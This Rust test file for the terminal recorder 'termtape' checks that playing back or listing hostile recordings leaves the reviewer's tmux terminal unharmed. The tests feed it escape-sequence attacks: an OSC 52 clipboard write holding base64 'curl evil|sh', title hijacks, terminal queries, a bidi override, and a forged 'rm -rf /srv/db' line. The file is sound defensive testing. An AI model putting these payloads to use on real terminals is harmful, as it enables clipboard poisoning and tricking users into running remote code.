//! The reviewer's terminal, attacked through recordings
//! (https://github.com/termtape/termtape/issues/10): fields that hold
//! escape sequences, output that queries the terminal or sets its title and
//! clipboard, keys typed during playback; and the gaps a rate limit leaves,
//! told by every reader. tmux plays the reviewer's terminal, with a shell
//! in it.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use termtape_tests::{bin, run_ok};

/// "curl evil|sh", as OSC 52 carries it.
const CURL: &str = "Y3VybCBldmlsfHNo";

/// A tmux server of its own (socket in a temporary directory) whose one
/// pane runs an interactive bash, as a reviewer's terminal; stopped when
/// dropped. OSC 52 sets tmux's buffer (`set-clipboard on`), OSC 2 the
/// pane's title; tmux answers DA and DSR.
pub(crate) struct Reviewer {
    socket: PathBuf,
}

impl Reviewer {
    pub(crate) fn start(dir: &Path) -> Reviewer {
        termtape_tests::require("tmux");
        termtape_tests::require("bash");
        let conf = dir.join("tmux.conf");
        std::fs::write(
            &conf,
            "set -g status off\nset -g set-clipboard on\nset -g allow-rename on\n",
        )
        .expect("write");
        let reviewer = Reviewer {
            socket: dir.join("tmux.sock"),
        };
        run_ok(
            reviewer
                .tmux()
                .arg("-f")
                .arg(&conf)
                .args(["new-session", "-d", "-s", "r", "-x", "160", "-y", "40"])
                .env("TERM", "xterm-256color")
                .env("PS1", "$ ")
                .args(["bash", "--norc", "--noprofile", "-i"]),
        );
        reviewer.wait_for("$ ");
        reviewer
    }

    fn tmux(&self) -> Command {
        let mut cmd = Command::new("tmux");
        cmd.arg("-S").arg(&self.socket);
        cmd
    }

    pub(crate) fn run(&self, args: &[&str]) -> String {
        String::from_utf8_lossy(&run_ok(self.tmux().args(args))).into_owned()
    }

    /// Types `text` (literally) and Enter into the pane.
    pub(crate) fn type_line(&self, text: &str) {
        self.run(&["send-keys", "-t", "r", "-l", text]);
        self.run(&["send-keys", "-t", "r", "Enter"]);
    }

    pub(crate) fn pane(&self) -> String {
        self.run(&["capture-pane", "-p", "-J", "-S", "-200", "-t", "r"])
    }

    pub(crate) fn wait_for(&self, text: &str) -> String {
        self.wait_until(text, |pane| pane.contains(text))
    }

    /// Waits until the pane shows what `what` describes.
    pub(crate) fn wait_until(&self, what: &str, shown: impl Fn(&str) -> bool) -> String {
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            let pane = self.pane();
            if shown(&pane) {
                return pane;
            }
            assert!(
                Instant::now() < deadline,
                "the pane never showed {what}:\n{pane}"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    fn title(&self) -> String {
        self.run(&["display", "-p", "-t", "r", "#{pane_title}"])
    }

    /// tmux's paste buffers (what OSC 52 would have set).
    fn buffers(&self) -> String {
        let out = self
            .tmux()
            .args(["list-buffers", "-F", "#{buffer_sample}"])
            .output()
            .expect("tmux");
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// Runs `command` in the shell and waits for it to end; after it, the
    /// shell must still run what is typed, and only that.
    fn shell(&self, command: &str, n: usize) -> String {
        self.type_line(&format!("{command}; echo done-{n}-$?"));
        // The output, not the command line typed ("done-N-$?").
        let done = format!("done-{n}-");
        self.wait_until(&done, |pane| {
            pane.match_indices(&done)
                .any(|(i, _)| pane[i + done.len()..].starts_with(|c: char| c.is_ascii_digit()))
        });
        self.type_line(&format!("echo shell-after-{n}-$((6*7))"));
        self.wait_for(&format!("shell-after-{n}-42"))
    }
}

impl Reviewer {
    /// Runs `termtape play ARGS LOG`, types a command while it plays
    /// (after the recording's mark), quits it with q, then types `after`
    /// and an echo, and returns the pane once the shell has run them.
    fn type_during_playback(&self, args: &str, log: &Path, after: &str) -> String {
        self.type_line(&format!(
            "{} play {args} {}; echo done-1-$?",
            bin("termtape").display(),
            log.display()
        ));
        self.wait_for("MIDDLE-MARK");
        self.type_line("echo INJ''ECTED");
        self.run(&["send-keys", "-t", "r", "q"]);
        self.wait_for("done-1-0");
        self.type_line(&format!("{after}echo shell-after-1-$((6*7))"));
        self.wait_for("shell-after-1-42")
    }
}

impl Drop for Reviewer {
    fn drop(&mut self) {
        let _ = self
            .tmux()
            .arg("kill-server")
            .stderr(Stdio::null())
            .status();
    }
}

/// No harm done to the reviewer: no title or clipboard set, nothing typed
/// into the shell but what they typed.
fn assert_unharmed(reviewer: &Reviewer, pane: &str) {
    assert!(!reviewer.title().contains("PWNED"), "{}", reviewer.title());
    assert!(
        !reviewer.buffers().contains("curl"),
        "{}",
        reviewer.buffers()
    );
    assert_nothing_typed(pane);
}

/// Nothing reached the shell but what the reviewer typed after playback:
/// neither the keys typed during it nor the terminal's answers (tmux
/// answers DA1 with `ESC [ ? 1 ; 2 c`).
fn assert_nothing_typed(pane: &str) {
    for injected in ["command not found", "INJECTED", "1;2c", "2c84"] {
        assert!(
            !pane.contains(injected),
            "{injected:?} in the pane:\n{pane}"
        );
    }
}

/// Output that attacks whoever plays it: clipboard, title, DA1, DSR,
/// DECRQSS, DA2, a colour query, XTVERSION, mouse tracking; then a mark.
fn hostile_output() -> String {
    format!(
        "\\033]52;c;{CURL}\\007\\033]2;PWNED-TITLE\\007\\033[c\\033[6n\\033P$qm\\033\\\\\
         \\033[>c\\033]11;?\\007\\033[>q\\033[?1000h\\033[?1004hMIDDLE-MARK\\n"
    )
}

/// The hostile output recorded by the real recorder, a second's pause,
/// then an end mark.
fn record_hostile(dir: &Path) -> PathBuf {
    let log = dir.join("hostile.log");
    let script = format!("printf '{}'; sleep 1; echo END-MARK", hostile_output());
    run_ok(
        Command::new(bin("termtape-rec"))
            .arg("-o")
            .arg(&log)
            .args(["--", "sh", "-c", &script])
            .stdin(Stdio::null()),
    );
    let text = std::fs::read_to_string(&log).expect("log");
    assert!(text.contains("]52;c;") && text.contains("MIDDLE-MARK"));
    log
}

#[test]
fn issue_10_raw_playback_neither_answers_nor_sets_title_or_clipboard_and_keeps_typed_keys() {
    let dir = tempfile::tempdir().expect("tempdir");
    let log = record_hostile(dir.path());
    let reviewer = Reviewer::start(dir.path());
    // At 1/1024 speed the second's pause after the mark lasts 17 minutes:
    // the reviewer types during it, for sure, then quits with q.
    let pane = reviewer.type_during_playback("--raw --speed 0.0009765625", &log, "");
    assert_unharmed(&reviewer, &pane);
    assert!(!pane.contains("END-MARK"), "q quit before the end:\n{pane}");
    assert!(
        pane.contains("were left out; --exact writes them"),
        "{pane}"
    );

    // Played to the end, the same.
    let pane = reviewer.shell(
        &format!("{} play --raw {}", bin("termtape").display(), log.display()),
        2,
    );
    assert!(
        pane.contains("END-MARK") && pane.contains("done-2-0"),
        "{pane}"
    );
    assert_unharmed(&reviewer, &pane);
}

#[test]
fn issue_10_exact_raw_playback_is_exact_and_still_keeps_the_answers_from_the_shell() {
    let dir = tempfile::tempdir().expect("tempdir");
    let log = record_hostile(dir.path());
    let reviewer = Reviewer::start(dir.path());
    // What the attack does once the bytes reach tmux (the test can see
    // harm): title and clipboard set. The terminal's answers and the keys
    // are still taken by the player.
    // Mouse and focus reporting were turned on by the recording: the
    // reviewer's terminal is reset before going on.
    let pane = reviewer.type_during_playback(
        "--raw --exact --speed 0.0009765625",
        &log,
        "printf '\\033[?1000l\\033[?1004l'; ",
    );
    assert_eq!(reviewer.title().trim(), "PWNED-TITLE");
    assert!(
        reviewer.buffers().contains("curl evil|sh"),
        "{}",
        reviewer.buffers()
    );
    assert_nothing_typed(&pane);
}

#[test]
fn issue_10_cat_on_a_terminal_is_guarded_and_exact_in_a_pipe() {
    let dir = tempfile::tempdir().expect("tempdir");
    let log = record_hostile(dir.path());
    // In a pipe: byte for byte.
    let piped = run_ok(Command::new(bin("termtape")).arg("cat").arg(&log));
    assert!(
        String::from_utf8_lossy(&piped).contains(&format!("\x1b]52;c;{CURL}\x07")),
        "{piped:?}"
    );
    let reviewer = Reviewer::start(dir.path());
    let pane = reviewer.shell(
        &format!("{} cat {}", bin("termtape").display(), log.display()),
        1,
    );
    assert!(pane.contains("END-MARK"), "{pane}");
    assert_unharmed(&reviewer, &pane);
}

#[test]
fn issue_10_the_interactive_player_sets_no_title_or_clipboard_and_takes_the_keys() {
    let dir = tempfile::tempdir().expect("tempdir");
    let log = record_hostile(dir.path());
    let reviewer = Reviewer::start(dir.path());
    let pane = reviewer.type_during_playback("", &log, "");
    assert_unharmed(&reviewer, &pane);
}

/// A recording whose fields hold escape sequences, as anyone who can write
/// to the journal (or the log) can forge it.
fn forged_log(dir: &Path) -> PathBuf {
    let esc = |s: &str| serde_json::to_string(s).expect("JSON string");
    let text = format!(
        r#"{{"ver":"2.3","host":{},"rec":{},"user":{},"term":{},"session":1,"id":1,"pos":0,"time":1800000000.000,"timing":"=80x24>15","in_txt":"","in_bin":[],"out_txt":"rm -rf /srv/db\n","out_bin":[]}}"#,
        esc("vm\u{9b}6n"),
        esc("rec\x1b]2;REC-PWNED\x07"),
        esc(&format!("root\x1b]52;c;{CURL}\x07")),
        esc("xterm\x1b]2;LS-PWNED\x07\u{202e}"),
    );
    let log = dir.join("forged.log");
    std::fs::write(&log, text + "\n").expect("write");
    log
}

#[test]
fn issue_10_forged_fields_are_shown_visibly_by_ls_and_search() {
    let dir = tempfile::tempdir().expect("tempdir");
    let log = forged_log(dir.path());
    let termtape = |args: &[&str]| {
        let out = Command::new(bin("termtape"))
            .args(args)
            .arg(&log)
            .output()
            .expect("termtape");
        let text = String::from_utf8(out.stdout).expect("UTF-8");
        assert!(
            !text.contains(['\x1b', '\x07', '\u{9b}', '\u{202e}']),
            "{args:?}: {text:?}"
        );
        text
    };
    let ls = termtape(&["ls"]);
    assert!(ls.contains(&format!(r"root\e]52;c;{CURL}\x07")), "{ls}");
    assert!(ls.contains(r"xterm\e]2;LS-PWNED\x07\u{202e}"), "{ls}");
    assert!(ls.contains(r"vm\u{9b}6n"), "{ls}");
    let search = termtape(&["search", "rm -rf"]);
    assert!(search.contains(r"rec\e]2;REC-PWNED\x07"), "{search}");
    assert!(search.contains("rm -rf /srv/db"), "{search}");
    // JSON keeps the values exact, escaped.
    let json = termtape(&["ls", "--json"]);
    let value: serde_json::Value = serde_json::from_str(json.trim()).expect("JSON");
    assert_eq!(value["term"], "xterm\x1b]2;LS-PWNED\x07\u{202e}");
    assert!(json.contains(r"\u001b]2;LS-PWNED\u0007\u202e"), "{json}");
    let json = termtape(&["search", "--json", "rm -rf"]);
    assert!(json.contains(r"vm\u009b6n"), "{json}");

    // On the reviewer's terminal: nothing happens.
    let reviewer = Reviewer::start(dir.path());
    let shown = reviewer.shell(
        &format!(
            "{0} ls {1}; {0} search rm {1}; {0} ls --json {1}",
            bin("termtape").display(),
            log.display()
        ),
        1,
    );
    assert!(shown.contains("LS-PWNED"), "{shown}");
    assert_unharmed(&reviewer, &shown);
}

#[test]
fn issue_10_a_real_term_holding_escapes_is_shown_visibly() {
    let dir = tempfile::tempdir().expect("tempdir");
    let log = dir.path().join("term.log");
    run_ok(
        Command::new(bin("termtape-rec"))
            .arg("-o")
            .arg(&log)
            .env("TERM", "xterm\x1b]2;TERM-PWNED\x07")
            .args(["--", "echo", "hello"])
            .stdin(Stdio::null()),
    );
    let out = run_ok(Command::new(bin("termtape")).arg("ls").arg(&log));
    let ls = String::from_utf8(out).expect("UTF-8");
    assert!(ls.contains(r"xterm\e]2;TERM-PWNED\x07"), "{ls}");
    assert!(!ls.contains(['\x1b', '\x07']), "{ls:?}");
}

/// A flood recorded with a rate limit that drops: a log with gaps.
fn flooded(dir: &Path) -> PathBuf {
    let log = dir.join("flood.log");
    run_ok(
        Command::new(bin("termtape-rec"))
            .arg("-o")
            .arg(&log)
            .args(["--limit-action", "drop", "--limit-rate", "20000"])
            .args(["--limit-burst", "40000", "--", "sh", "-c"])
            .arg("echo start; head -c 3000000 /dev/zero | tr '\\0' x; echo; echo end")
            .stdin(Stdio::null())
            .stdout(Stdio::null()),
    );
    log
}

#[test]
fn issue_10_every_reader_tells_of_the_gaps_a_rate_limit_left() {
    let dir = tempfile::tempdir().expect("tempdir");
    let log = flooded(dir.path());
    let gaps: Vec<(u64, u64)> = termtape_tests::read_messages(&log)
        .iter()
        .filter_map(|m| {
            let gap: serde_json::Value =
                serde_json::from_str(m.extra("gap")?.get()).expect("gap JSON");
            Some((gap["messages"].as_u64()?, gap["bytes"].as_u64()?))
        })
        .collect();
    assert!(!gaps.is_empty(), "the flood was cut");
    let bytes: u64 = gaps.iter().map(|g| g.1).sum();

    let json = run_ok(
        Command::new(bin("termtape"))
            .args(["ls", "--json"])
            .arg(&log),
    );
    let value: serde_json::Value = serde_json::from_slice(&json).expect("JSON");
    assert_eq!(value["gaps"]["count"], gaps.len() as u64);
    assert_eq!(value["gaps"]["bytes"], bytes);
    let table = String::from_utf8(run_ok(Command::new(bin("termtape")).arg("ls").arg(&log)))
        .expect("UTF-8");
    let row = table.lines().nth(1).expect("a row");
    assert!(
        row.contains(&format!("{:>4}  {bytes:>13}  -", gaps.len())),
        "{table}"
    );

    // cat, search and raw play say so on stderr, once per gap.
    for args in [
        &["cat"][..],
        &["search", "end"],
        &["play", "--raw", "--speed", "1024"],
    ] {
        let out = Command::new(bin("termtape"))
            .args(args)
            .arg(&log)
            .output()
            .expect("termtape");
        let stderr = String::from_utf8_lossy(&out.stderr);
        let told = stderr
            .lines()
            .filter(|l| l.starts_with("termtape: gap: recording ") && l.contains("rate limit"))
            .count();
        assert_eq!(told, gaps.len(), "{args:?}: {stderr}");
    }

    // The interactive player: in the status line.
    let reviewer = Reviewer::start(dir.path());
    reviewer.type_line(&format!(
        "{} play {}; echo done-1-$?",
        bin("termtape").display(),
        log.display()
    ));
    let pane = reviewer.wait_for("dropped");
    assert!(
        pane.contains("message(s) dropped by the rate limit]")
            || pane.contains(&format!("[{} gap(s), ", gaps.len())),
        "{pane}"
    );
    reviewer.run(&["send-keys", "-t", "r", "q"]);
    reviewer.wait_for("done-1-0");
}

/// The children of process `pid`.
fn children(pid: &str) -> Vec<String> {
    std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children"))
        .unwrap_or_default()
        .split_whitespace()
        .map(str::to_owned)
        .collect()
}

#[test]
fn issue_10_raw_playback_gives_the_terminal_back_when_killed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let log = record_hostile(dir.path());
    for (signal, status) in [("TERM", 143), ("INT", 130), ("HUP", 129)] {
        let own = dir.path().join(signal);
        std::fs::create_dir(&own).expect("mkdir");
        let reviewer = Reviewer::start(&own);
        // sh restores nothing itself (bash would, for a job killed by a
        // signal): what stty shows is what termtape left.
        reviewer.type_line(&format!(
            "exec sh -c '{} play --raw --speed 0.0009765625 {}; echo status=$?; \
             stty -a | tr \" \" \"\\n\" | grep -x -e \"-*icanon\" -e \"-*echo\" | tr \"\\n\" \" \"; \
             echo; echo modes-$((6*7)); sleep 60'",
            bin("termtape").display(),
            log.display()
        ));
        reviewer.wait_for("MIDDLE-MARK");
        let shell = reviewer
            .run(&["display", "-p", "-t", "r", "#{pane_pid}"])
            .trim()
            .to_owned();
        let player = children(&shell);
        assert_eq!(player.len(), 1, "sh runs the player: {player:?}");
        run_ok(Command::new("kill").args(["-s", signal, &player[0]]));
        let pane = reviewer.wait_for("modes-42");
        assert!(pane.contains(&format!("status={status}")), "{pane}");
        assert!(pane.contains("icanon echo"), "after SIG{signal}:\n{pane}");
    }
}
